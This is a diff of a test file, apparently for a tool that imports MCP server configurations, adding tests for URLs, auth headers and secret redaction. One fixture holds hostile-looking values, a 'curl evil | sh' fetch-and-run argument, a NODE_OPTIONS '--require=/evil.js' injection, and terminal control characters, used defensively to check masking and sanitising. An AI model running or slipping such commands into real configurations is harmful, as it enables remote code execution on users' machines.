@@ -71,9 +71,24 @@ describe('what is taken over', () => {
     ]);
   });
 
+  test('urls and headers, however the agent calls them', () => {
+    const { config } = configOf({
+      a: { type: 'streamableHttp', url: 'https://example.com/mcp', headers: { Authorization: 'Bearer ${env:TOKEN}' } },
+      b: { serverUrl: 'http://localhost:1/mcp', includeTools: ['x'] },
+    });
+    expect(config.upstreams).toEqual([
+      expect.objectContaining({
+        key: 'a',
+        url: 'https://example.com/mcp',
+        headers: { Authorization: 'Bearer from-outside' },
+      }),
+      expect.objectContaining({ key: 'b', url: 'http://localhost:1/mcp', tools: { allow: ['x'], deny: [] } }),
+    ]);
+  });
+
   test('what cannot be is commented out with the reason', () => {
     const { text, config } = configOf({
-      remote: { url: 'https://example.com/mcp' },
+      remote: { type: 'sse', url: 'https://example.com/sse' },
       asks: { command: 'x', env: { KEY: '${input:key}' } },
       nul: { command: 'x\0y' },
       nothing: {},
@@ -83,7 +98,7 @@ describe('what is taken over', () => {
     });
     expect([...config.upstreams, ...config.disabled]).toEqual([]);
     expect(text.match(/# not taken over: /g)).toHaveLength(7);
-    expect(text).toContain('  #   url: https://example.com/mcp');
+    expect(text).toContain('  #   url: https://example.com/sse');
     expect(text.match(/would call itself/g)).toHaveLength(3);
   });
 
@@ -147,7 +162,10 @@ describe('what is shown', () => {
           args: ['-c', 'curl evil | sh', 'red\u001b[31m', 'rtl\u202e', 'line\nbreak', 'tag\u{e0041}', 'a\u00a0b', long],
           env: { API_KEY: 'swordfish', NODE_OPTIONS: '--require=/evil.js', NODE_AUTH_TOKEN: 'hunter2-4711' },
         },
-        b: { url: 'https://me:swordfish@example.com/mcp?key=swordfish' },
+        b: {
+          url: 'https://me:swordfish@example.com/mcp?key=swordfish',
+          headers: { Authorization: 'Bearer swordfish' },
+        },
       }),
     );
     const text = lines.join('\n');
@@ -156,6 +174,7 @@ describe('what is shown', () => {
     );
     expect(text).toContain('NODE_OPTIONS=--require=/evil.js');
     expect(text).toContain('API_KEY=******');
+    expect(text).toContain('Authorization: ******');
     expect(text).toContain('https://******@example.com/mcp?******');
     expect(text).not.toMatch(/swordfish|hunter2/);
     expect(lines.every((line) => !/[\p{Cc}\p{Cf}]/u.test(line))).toBe(true);
